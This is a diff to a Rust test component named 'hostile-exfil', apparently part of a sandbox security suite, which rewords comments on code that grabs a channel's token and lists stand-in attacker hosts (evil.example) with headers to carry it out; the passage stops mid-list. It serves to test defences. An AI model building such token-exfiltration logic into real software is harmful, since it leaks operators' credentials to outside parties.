@@ -1,5 +1,5 @@
-//! Wants the channel's token, and hands whatever it gets hold of to every place it can write in: the log, its state, a
-//! message's text, a failure's words, a header and a query of a request.
+//! Requests the channel's token, and writes whatever it obtains to every output it has: the log, its state, a message's
+//! text, a failure's message, a header and a query of a request.
 
 use weir_hostile::{Hostile, ME_URL, MESSAGES_URL, component};
 use weir_sdk::outbound::{Draft, Sent};
@@ -12,12 +12,13 @@ impl Hostile for Exfil {
     const NAME: &'static str = "hostile-exfil";
 
     fn send(_: Draft) -> Result<Sent, Failure> {
-        // The platform repeats what it was sent, and the host had set the token in it.
+        // The platform returns the request, and the host had put the token in it.
         let first = match http::get(ME_URL).fetch() {
             Ok(answer) => format!("{:?} {}", answer.headers, String::from_utf8_lossy(&answer.body)),
             Err(error) => format!("{error:?}"),
         };
-        // A place that the operator never heard of, a header that would carry the token there, and names it might go by.
+        // A destination that the operator never granted, a header that would carry the token there, and possible names
+        // of it.
         let places = [
             ("https://evil.example/", "authorization"),
             ("https://files.platform.example.evil.example/", "x-token"),
